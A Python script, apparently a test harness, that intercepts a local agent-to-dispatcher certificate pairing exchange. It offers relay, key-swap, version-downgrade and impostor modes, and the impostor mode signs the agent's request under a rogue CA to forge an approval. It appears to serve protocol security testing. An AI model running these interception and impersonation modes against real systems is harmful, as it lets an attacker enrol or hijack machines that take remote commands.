"""Sits between an agent and a dispatcher on the pairing port: TLS with a certificate of its own towards the agent, TLS towards the dispatcher.

mitm.py PORT DISPATCHER_PORT CERT KEY MODE
    relay      passes every byte on, unchanged
    swap       speaks the bound protocol with both, with a key and a request of its own towards the dispatcher
    old        poses as an older release towards both, with a request of its own towards the dispatcher
    downgrade  chooses the bound protocol towards the agent, and answers as an older release
    impostor   answers by itself, with an approval under a CA of its own (CERT and KEY are a dispatcher's of that CA, beside ca.crt and ca.key)
"""
import hashlib
import json
import os
import socket
import ssl
import subprocess
import sys
import tempfile
import threading

port, upstream_port, cert, key, mode = sys.argv[1:]
PROTOCOL = "ctrl-exec-pair/2"


def sha(*parts):
    return hashlib.sha256(b"".join(parts)).digest()


def message(stream):
    """Head and JSON of the next message."""
    length, start = 0, stream.readline()
    if not start:
        raise EOFError
    while True:
        line = stream.readline().strip()
        if not line:
            break
        name, _, value = line.partition(b":")
        if name.lower() == b"content-length":
            length = int(value)
    return start, json.loads(stream.read(length))


def send(tls, start, body):
    data = json.dumps(body).encode()
    tls.sendall(start + b"\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(data) + data)


def respond(tls, body):
    send(tls, b"HTTP/1.0 200 OK", body)


def own_csr(name):
    with tempfile.TemporaryDirectory() as scratch:
        out = os.path.join(scratch, "csr")
        subprocess.run(["openssl", "req", "-new", "-nodes", "-newkey", "rsa:2048", "-keyout", "/dev/null", "-subj", "/CN=" + name, "-out", out],
                       check=True, capture_output=True)
        return open(out).read()


def dispatcher(offer):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    if offer:
        context.set_alpn_protocols([PROTOCOL])
    return context.wrap_socket(socket.create_connection(("127.0.0.1", int(upstream_port)), timeout=50))


def pump(source, sink):
    try:
        while True:
            data = source.recv(65536)
            if not data:
                break
            sink.sendall(data)
    except OSError:
        pass
    try:
        sink.shutdown(socket.SHUT_RDWR)
    except OSError:
        pass


def attack(agent):
    if mode == "relay":
        upstream = dispatcher(True)
        thread = threading.Thread(target=pump, args=(agent, upstream), daemon=True)
        thread.start()
        pump(upstream, agent)
        return
    reader = agent.makefile("rb")
    _, request = message(reader)
    print("saw the request of " + request["hostname"])
    if mode == "downgrade":
        respond(agent, {"status": "pending", "reqid": "0123456789abcdef"})
        reader.read()
        return
    if mode == "impostor":
        home = os.path.dirname(cert)
        respond(agent, {"status": "pending", "reqid": "0123456789abcdef", "pair_version": 2, "dispatcher_nonce": "11" * 32})
        message(reader)
        with tempfile.TemporaryDirectory() as scratch:
            path = os.path.join(scratch, "csr")
            open(path, "w").write(request["csr"])
            signed = subprocess.run(["openssl", "x509", "-req", "-in", path, "-CA", home + "/ca.crt", "-CAkey", home + "/ca.key", "-set_serial", "0xABCDEF",
                                     "-days", "100", "-sha256"], check=True, capture_output=True, text=True).stdout
        respond(agent, {"status": "approved", "cert": signed, "ca": open(home + "/ca.crt").read(), "nonce": request["nonce"], "dispatcher_serial": "",
                        "dispatcher_id": "evil"})
        print("receipt " + json.dumps(message(reader)[1]))
        return
    csr, nonce = own_csr(request["hostname"]), os.urandom(32)
    ours = dict(request, csr=csr)
    upstream = dispatcher(mode == "swap")
    answers = upstream.makefile("rb")
    if mode == "swap":
        seen = sha(upstream.getpeercert(binary_form=True))
        ours["commit"] = sha(b"ctrl-exec pairing commit v2\0", sha(csr.encode()), seen, nonce).hex()
    else:
        del ours["pair_version"], ours["commit"]
    send(upstream, b"POST /pair HTTP/1.0", ours)
    _, first = message(answers)
    respond(agent, first)
    print("the dispatcher says " + json.dumps(first))
    if first["status"] != "pending":
        return
    if mode == "swap":
        message(reader)
        send(upstream, b"POST /pair/reveal HTTP/1.0", {"reqid": first["reqid"], "agent_nonce": nonce.hex()})
    _, second = message(answers)
    respond(agent, second)
    print("the dispatcher decides " + second["status"])
    reader.read()


def serve(raw):
    try:
        raw.settimeout(50)
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(cert, key)
        if mode != "old":
            context.set_alpn_protocols([PROTOCOL])
        attack(context.wrap_socket(raw, server_side=True))
    except (OSError, EOFError) as e:
        print("ended: %r" % e)


listener = socket.socket()
listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
listener.bind(("127.0.0.1", int(port)))
listener.listen(10)
print("ready")
while True:
    threading.Thread(target=serve, args=(listener.accept()[0],), daemon=True).start()
